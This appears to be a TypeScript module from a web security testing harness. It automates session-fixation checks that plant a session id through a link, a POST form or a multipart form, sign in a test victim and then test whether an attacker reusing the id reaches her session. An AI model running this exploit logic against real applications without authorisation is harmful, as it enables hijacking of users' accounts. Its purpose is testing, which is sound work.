/**
 * The attacker takes an id from the application, or makes one up, and leads the victim to the sign-in page with that id: by a
 * link, or by a form that his page sends. She signs in with what she sees there; the page has the id in its form, as servers
 * that rewrite addresses write it. What the application now knows under that id is hers, wherever it is asked.
 */
import { type Attack, defineAttack, Undecided } from './attack.ts'
import { Browser, type Page } from './lib/browser.ts'
import { findForm, writtenValues } from './lib/form.ts'
import { at, attackerGets } from './lib/people.ts'
import { invent } from './lib/plant.ts'
import type { Part, Target } from './target.ts'

/** The victim's first step, with the id in it. */
type Lure = { name: string; follow(target: Target, browser: Browser): Promise<Page> }

const from = 'https://attacker.test/win'

export const plantedLink = attack('F3 planted token, by link to the sign-in', ['plantedLinks'], (target, id) =>
  target.plantedLinks!(target.signIn(target.users.victim).page, id).map((link) => ({
    name: link,
    follow: (there, browser) => browser.load(at(there, link), { from }),
  })),
)

export const plantedForm = attack('F3 planted token, by form to the sign-in', ['idForm'], (target, id) => [
  form(target, id, false),
])

export const plantedMultipart = attack('F3 planted token, by multipart form', ['idForm'], (target, id) => [
  form(target, id, true),
])

function form({ idForm }: Target, id: string, multipart: boolean): Lure {
  const { path, fields, idField } = idForm!
  const sent = Object.entries({ ...fields, [idField]: id })
  return {
    name: `a form with ${idField}`,
    follow: (there, browser) => browser.load(at(there, path), { method: 'POST', fields: sent, multipart, from }),
  }
}

function attack(name: string, needs: Part[], luresOf: (target: Target, id: string) => Lure[]): Attack {
  return defineAttack(name, needs, async (target) => {
    // Whoever reaches the application past a gateway plants there too.
    const itself: Target = { ...target, url: target.application ?? target.url }
    const issued = await idsOf(itself)
    const ids = [...issued, invent(issued[0])]
    const lures = ids.flatMap((id) => luresOf(target, id).map((lure) => ({ id, lure })))
    for (const { id, lure } of lures) {
      await signInBy(target, lure)
      const opened = (await opens(target, target, id)) ?? (await opens(itself, target, id))
      if (opened !== undefined) return { got: true, evidence: `after ${lure.name}: ${opened}` }
    }
    return {
      got: false,
      evidence: `${lures.length} tries with ${ids.length} ids, and none opens anything after sign-in`,
    }
  })
}

/** What the application gives to a stranger: in a cookie, and in what it writes. */
export async function idsOf(target: Target): Promise<string[]> {
  const url = at(target, target.content[0]!)
  const browser = new Browser(target.address)
  const page = await browser.load(url)
  const given = [
    ...browser.jar.pairs(url).map(([, value]) => value),
    ...writtenValues(page.body).map(({ value }) => value),
  ]
  return [...new Set(given.filter((id) => /^[\w.-]{16,}$/.test(id)))]
}

/** Where that leads to no sign-in, she goes to the page by herself. */
async function signInBy(target: Target, lure: Lure): Promise<void> {
  const { victim } = target.users
  const browser = new Browser(target.address)
  const { page, fields } = target.signIn(victim)
  const landed = await lure.follow(target, browser)
  const found = findForm(landed.body, Object.keys(fields))
  if (found !== undefined) {
    const sent = [...found.fields.filter(([name]) => !(name in fields)), ...Object.entries(fields)] as [
      string,
      string,
    ][]
    const action = new URL(found.action, landed.url).href
    const member = await browser.load(action, { method: 'POST', fields: sent, from: landed.url })
    if (member.body.includes(victim.name)) return
  }
  const member = await browser.fill(target.url, { page, fields })
  if (!member.body.includes(victim.name)) throw new Undecided(`${victim.name} could not sign in after ${lure.name}`)
}

/** By link, by parameter or by cookie. */
export async function opens(door: Target, target: Target, id: string): Promise<string | undefined> {
  const named = (target.idParameters ?? []).map((name) => `${target.whoami}?${name}=${id}`)
  const cookies = (target.applicationCookies ?? []).map((name): [string, string] => [name, id])
  for (const path of [...(target.plantedLinks?.(target.whoami, id) ?? []), ...named, target.whoami]) {
    for (const jar of [[], cookies]) {
      const { body } = await attackerGets(door, at(door, path), jar)
      if (body.includes(target.users.victim.name)) return `${door.url}${path} names ${target.users.victim.name}`
    }
  }
  return undefined
}
